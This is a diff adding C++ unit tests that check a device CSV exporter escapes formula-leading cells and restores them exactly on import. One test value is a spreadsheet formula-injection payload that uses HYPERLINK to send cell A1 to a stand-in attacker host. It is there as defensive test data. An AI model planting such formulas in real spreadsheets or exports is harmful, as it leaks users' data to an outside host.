@@ -142,5 +142,48 @@ TEST(DeviceCsvTest, ExportParsesBackIdentically) {
   EXPECT_EQ((*r)[0].device.SerializeAsString(), d.SerializeAsString());
 }
 
+TEST(DeviceCsvTest, FormulasAreNeutralisedOnExport) {
+  adminpb::Device d;
+  d.set_set_username("1001");
+  d.set_set_password("-starts-with-minus");
+  d.set_icp_username("21001");
+  d.set_icp_password("@sum(1)");
+  d.set_description("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")");
+  d.set_site("+33 Paris");
+  d.set_location("'=already quoted");
+  std::string csv = WriteDeviceCsv({d});
+  EXPECT_THAT(csv, HasSubstr("\"'-starts-with-minus\""));
+  EXPECT_THAT(csv, HasSubstr("\"'@sum(1)\""));
+  EXPECT_THAT(csv, HasSubstr("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\""));
+  EXPECT_THAT(csv, HasSubstr("\"'+33 Paris\""));
+  EXPECT_THAT(csv, HasSubstr("\"''=already quoted\""));
+  // No cell of a data row starts with a formula character once unquoted.
+  EXPECT_THAT(csv, Not(HasSubstr("\"=")));
+  EXPECT_THAT(csv, Not(HasSubstr("\"-")));
+  EXPECT_THAT(csv, Not(HasSubstr("\"@")));
+  EXPECT_THAT(csv, Not(HasSubstr("\"+")));
+
+  // Imported back, every field is the original.
+  auto r = ParseDeviceCsv(csv, true);
+  ASSERT_TRUE(r.ok()) << r.status();
+  ASSERT_EQ(r->size(), 1u);
+  EXPECT_EQ((*r)[0].device.SerializeAsString(), d.SerializeAsString());
+}
+
+TEST(DeviceCsvTest, CellEscapingRule) {
+  for (const char* v : {"=1+2", "+1", "-1", "@x", "\tx", "\rx", "'=x", "''+x", "'", "''", "'abc",
+                        "a=b", "", "plain", "''"}) {
+    EXPECT_EQ(UnescapeCsvCell(EscapeCsvCell(v)), v) << v;
+  }
+  EXPECT_EQ(EscapeCsvCell("=1+2"), "'=1+2");
+  EXPECT_EQ(EscapeCsvCell("\tx"), "'\tx");
+  EXPECT_EQ(EscapeCsvCell("'abc"), "'abc");
+  EXPECT_EQ(EscapeCsvCell("a=b"), "a=b");
+  // Hand-written cells: only a quote before a formula character is taken away.
+  EXPECT_EQ(UnescapeCsvCell("'=SUM(A1)"), "=SUM(A1)");
+  EXPECT_EQ(UnescapeCsvCell("'abc"), "'abc");
+  EXPECT_EQ(UnescapeCsvCell("=SUM(A1)"), "=SUM(A1)");
+}
+
 }  // namespace
 }  // namespace rwg::control
